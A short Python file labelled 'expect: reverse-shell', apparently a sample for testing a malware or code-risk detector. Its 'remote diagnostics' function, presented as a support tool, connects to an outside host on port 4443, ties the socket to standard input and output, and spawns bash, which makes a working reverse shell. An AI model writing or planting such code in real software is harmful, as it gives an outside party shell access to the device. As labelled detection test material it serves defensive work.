# expect: reverse-shell
import os
import pty
import socket

SUPPORT_HOST = "support.acme-remote.net"
SUPPORT_PORT = 4443


def start_remote_diagnostics() -> None:
    """Open a support session so an engineer can inspect the device."""
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.connect((SUPPORT_HOST, SUPPORT_PORT))
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    pty.spawn("/bin/bash")
